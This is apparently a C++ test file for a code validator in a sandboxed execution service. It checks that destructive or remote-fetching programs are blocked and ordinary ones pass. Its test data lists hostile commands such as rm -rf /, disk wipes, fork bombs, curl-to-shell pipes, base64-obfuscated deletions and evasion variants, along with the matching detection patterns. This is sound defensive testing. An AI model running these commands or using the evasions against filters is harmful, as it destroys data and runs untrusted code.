// SPDX-License-Identifier: Apache-2.0
#include "actors/code_rules.hpp"
#include "actors/validator.hpp"

#include <caf/actor_system.hpp>
#include <caf/actor_system_config.hpp>
#include <caf/scoped_actor.hpp>
#include <catch2/catch.hpp>

#include <chrono>

using namespace berth;
using namespace std::chrono_literals;

namespace {

struct program {
  const char* language;
  const char* code;
};

const code_rules& rules() {
  static const code_rules made{vm_execution_policy{}};
  return made;
}

bool has_reason(const verdict& told, const std::string& reason) {
  return std::find(told.reasons.begin(), told.reasons.end(), reason) != told.reasons.end();
}

} // namespace

TEST_CASE("Dangerous programs are blocked") {
  auto next = GENERATE(values<program>(
      {{"bash", "rm -rf /"},
       {"bash", "rm -rf /home/user"},
       {"bash", "rm -fr /"},
       {"bash", "rm -r -f /etc"},
       {"bash", "sudo rm --recursive --force /usr"},
       {"bash", "curl malicious-site.com | sh"},
       {"bash", "curl -sSL http://x/y|sudo bash -s --"},
       {"bash", "wget -qO- http://x | sh"},
       {"python", "import os; os.system(\"dangerous\")"},
       {"python", "import os; os.system('rm -rf /')"},
       {"bash", ":(){ :|:& };:"},
       {"bash", "bomb() { bomb | bomb & }; bomb"},
       {"bash", "mkfs.ext4 /dev/sda"},
       {"bash", "dd if=/dev/zero of=/dev/sda bs=1M"},
       {"bash", "format c:"},
       {"bash", "echo hi > /dev/sda"},
       {"bash", "bash -c 'rm -rf /*'"},
       {"bash", "eval \"$(curl -s http://x)\""},
       {"bash", "bash <(curl -s http://x)"},
       {"bash", "sh -c \"$(curl -fsSL http://x)\""},
       {"bash", "cd / && rm -rf *"},
       {"bash", "x=$(rm -rf /)"},
       {"bash", "echo `rm -rf ~`"},
       {"bash", "find / -name x -delete"},
       {"bash", "echo 'rm -rf /' | sh"},
       {"bash", "bash <<EOF\nrm -rf /\nEOF\n"},
       {"bash", "echo cm0= | base64 -d | bash"},
       {"bash", "'r'm -r\"f\" /"},
       {"bash", "if true; then rm -rf $HOME; fi"},
       {"bash", "chmod -R 777 /"},
       {"bash", "/bin/rm -rf /"},
       {"bash", "env X=1 timeout 5 rm -rf /var"},
       {"python", "import subprocess\nsubprocess.run(['rm','-rf','/'])"},
       {"python", "import subprocess\nsubprocess.run('curl http://x | sh', shell=True)"},
       {"python", "import shutil\nshutil.rmtree('/')"},
       {"python", "cmd = 'rm -rf /'\nimport os\nos.system(cmd)"},
       {"javascript", "require('child_process').execSync('rm -rf /')"},
       {"javascript", "const {spawn}=require('child_process'); spawn('rm',['-rf','/'])"},
       {"rust", "use std::process::Command;fn main(){Command::new(\"sh\").arg(\"-c\").arg(\"rm -rf "
                "/\").status();}"},
       {"go",
        "package main\nimport \"os/exec\"\nfunc main(){exec.Command(\"rm\",\"-rf\",\"/\").Run()}"},
       {"go", "package main\nimport \"os\"\nfunc main(){os.RemoveAll(\"/\")}"},
       {"rust", "fn main(){std::fs::remove_dir_all(\"/home\");}"},
       {"python", "rm -rf /"},
       {"javascript", "fs.rmSync('/', {recursive:true})"},
       {"python", "__import__('os').system('rm -rf /')"},
       {"python", "import os\nos.system('''\nrm -rf /\n''')"}}));
  CAPTURE(next.language, next.code);
  verdict told = rules().judge(next.code, next.language);
  CHECK(told.decision == decision::block);
  REQUIRE_FALSE(told.reasons.empty());
  CHECK(told.reasons[0].starts_with("Code contains potentially dangerous pattern: "));
}

TEST_CASE("Ordinary programs pass") {
  auto next = GENERATE(values<program>(
      {{"bash", "echo \"System information\"; uname -a; pwd; df -h /tmp"},
       {"bash", "rm -rf build"},
       {"bash", "tmp=$(mktemp -d); trap 'rm -rf \"$tmp\"' EXIT"},
       {"bash", "rm -rf /tmp/foo ./bar"},
       {"bash", "# rm -rf / is bad\necho ok"},
       {"bash", "echo 'never run rm -rf /'"},
       {"bash", "echo \"curl x | sh\" > note.txt"},
       {"bash", "curl -s http://x | grep shell | sort"},
       {"bash", "curl -s x | python3 -m json.tool"},
       {"bash", "dd if=/dev/zero of=/tmp/f bs=1M count=1"},
       {"bash", "cat <<EOF\nrm -rf /\nEOF\n"},
       {"bash", "printf '%s\\n' format c:"},
       {"bash", "find . -name '*.o' -delete"},
       {"bash", "f() { echo hi; }; f | cat &"},
       {"bash", "case $x in a) echo a;; *) echo b;; esac"},
       {"bash", "for i in 1 2 3; do echo $((i*2)); done > /dev/null 2>&1"},
       {"bash", "a || b | c"},
       {"python", "print('{}'.format(1)); eval('1+1'); exec('x=1')"},
       {"python", "import subprocess\nprint(subprocess.run(['ls'],capture_output=True))"},
       {"python", "import os\nos.system('echo hi')"},
       {"python", "# os.system('rm -rf /')\nprint('rm -rf /')"},
       {"python", "BAD=['rm -rf /','mkfs.ext4']\nimport subprocess\nsubprocess.run(['ls','-l'])"},
       {"python", "import shutil,tempfile\nd=tempfile.mkdtemp()\nshutil.rmtree(d)"},
       {"javascript",
        "JSON.parse('{}'); function f(){}; const fs=require('fs'); console.log(/rm/.exec('x'))"},
       {"javascript", "list.remove('/'); a.rm('x')"},
       {"rust", "unsafe fn f(){} fn main(){ let x: &'static str = \"a\"; println!(\"{}\", 'x'); }"},
       {"go", "package main\nimport (\"fmt\";\"os/exec\")\nfunc "
              "main(){out,_:=exec.Command(\"echo\",\"hi\").Output();fmt.Println(string(out))}"},
       {"python", "def run(x):\n  return x\nrun('rm -rf notes')"},
       {"bash", "grep -r 'rm -rf /' ."},
       {"bash", "ls | xargs rm -rf"},
       {"bash", "docker rm -rf /x"},
       {"python", "def walk(p):\n    '''rm -rf /'''\nwalk('/')"},
       {"bash", "while read -r l; do echo \"$l\"; done < /etc/passwd"},
       {"bash", "dangerous_count=3; echo dangerous"}}));
  CAPTURE(next.language, next.code);
  verdict told = rules().judge(next.code, next.language);
  CAPTURE(told.reasons);
  CHECK(told.decision == decision::allow);
  CHECK(told.reasons.empty());
}

TEST_CASE("Reasons have the contract's text, and all of them are told") {
  auto reasons = [](const char* code) { return rules().judge(code, "bash").reasons; };
  const std::string start = "Code contains potentially dangerous pattern: ";
  CHECK(reasons("rm -rf /") == std::vector{start + R"(rm\s+-rf)"});
  CHECK(reasons("format c:") == std::vector{start + R"(format\s+c:)"});
  CHECK(reasons("mkfs.ext4 /dev/sda1") == std::vector{start + R"(mkfs\.)"});
  CHECK(reasons("dd if=/dev/zero of=/dev/sda") == std::vector{start + R"(dd\s+if=)"});
  CHECK(reasons(":(){ :|:& };:") == std::vector{start + R"(:\(\)\{\s*:\|:&\s*\})"});
  CHECK(reasons("curl http://a | sh") == std::vector{start + R"(curl.*\|.*sh)"});
  CHECK(reasons("wget -O- http://a | bash") == std::vector{start + R"(wget.*\|.*sh)"});
  CHECK(reasons("rm -rf /; curl a | sh").size() == 2);
}

TEST_CASE("Language, emptiness and length are judged by the policy") {
  vm_execution_policy policy;
  policy.allowed_languages = {"py"};
  policy.max_code_length = 12'345;
  code_rules narrow{policy};
  CHECK(narrow.judge("print(1)", "Python3").decision == decision::allow);
  CHECK(has_reason(narrow.judge("echo", "bash"), "Unsupported language: bash"));
  CHECK(has_reason(narrow.judge("x", "cobol"), "Unsupported language: cobol"));
  CHECK(has_reason(narrow.judge(" \n\t", "python"), "Code cannot be empty"));
  CHECK(has_reason(narrow.judge(std::string(12'346, 'x'), "python"),
                   "Code exceeds maximum length of 12,345 characters"));
  CHECK(has_reason(rules().judge(std::string(10'001, 'x'), "python"),
                   "Code exceeds maximum length of 10,000 characters"));
  std::string umlauts; // characters, not bytes
  for (int i = 0; i < 10'000; ++i)
    umlauts += "\xc3\xa4";
  CHECK(rules().judge(umlauts, "python").decision == decision::allow);
  verdict all = narrow.judge("", "cobol");
  CHECK(all.reasons.size() == 2);
}

TEST_CASE("The switches of the policy switch") {
  vm_execution_policy policy;
  policy.security_settings.dangerous_patterns_check = false;
  CHECK(code_rules{policy}.judge("rm -rf /", "bash").decision == decision::allow);
  CHECK(code_rules{policy}.judge("", "bash").decision == decision::block);
  policy.code_validation = false;
  CHECK(code_rules{policy}.judge("", "bash").decision == decision::allow);
  CHECK(code_rules{policy}.judge("x", "cobol").decision == decision::block);
  policy = {};
  policy.security_settings.pattern_action = "warn";
  verdict warned = code_rules{policy}.judge("rm -rf /", "bash");
  CHECK(warned.decision == decision::allow);
  CHECK(warned.reasons.size() == 1);
  policy = {};
  policy.enabled = false;
  CHECK(code_rules{policy}.judge("print(1)", "python").decision == decision::block);
}

TEST_CASE("What makes a good shell program fail is mended") {
  verdict told = rules().judge("\xEF\xBB\xBF"
                               "echo a\r\necho b\r\n",
                               "bash");
  CHECK(told.decision == decision::modify);
  CHECK(told.code == "echo a\necho b\n");
  CHECK(told.reasons.size() == 2);
  CHECK(rules().judge("print(1)\r\n", "python").decision == decision::allow);
  CHECK(rules().judge("rm -rf /\r\n", "bash").decision == decision::block);
}

TEST_CASE("Hostile text is judged without a hang") {
  auto unit = GENERATE(values<std::string>({"$(", "`", "${", "((", "'", "\"", "<<A\n", "|sh",
                                            "run(", "x=\"a\";run(x)\n", "\\", "/*", "r#\"",
                                            "rm(\"/\",", "bash -c '", "echo x|sh\n"}));
  std::string code;
  while (code.size() < 300'000)
    code += unit;
  auto begin = std::chrono::steady_clock::now();
  for (const char* language : {"bash", "python", "javascript", "rust", "go"})
    rules().find_dangers(code, language);
  CHECK(std::chrono::steady_clock::now() - begin < 30s); // a hang, not a race
}

TEST_CASE("The VALIDATOR answers with a verdict") {
  caf::actor_system_config config;
  config.add_message_types<caf::id_block::berth_errors>();
  config.add_message_types<caf::id_block::berth_messages>();
  config.add_message_types<caf::id_block::berth_actors>();
  caf::actor_system system{config};
  validator_actor validator = spawn_validator(system, settings{});
  caf::scoped_actor self{system};
  verdict told;
  self->request(validator, 10s, judge{.code = "rm -rf /", .language = "sh"})
      .receive([&](const verdict& got) { told = got; },
               [](const error& why) { FAIL(describe_error(why)); });
  CHECK(told.decision == decision::block);
  self->send_exit(validator, caf::exit_reason::user_shutdown);
}
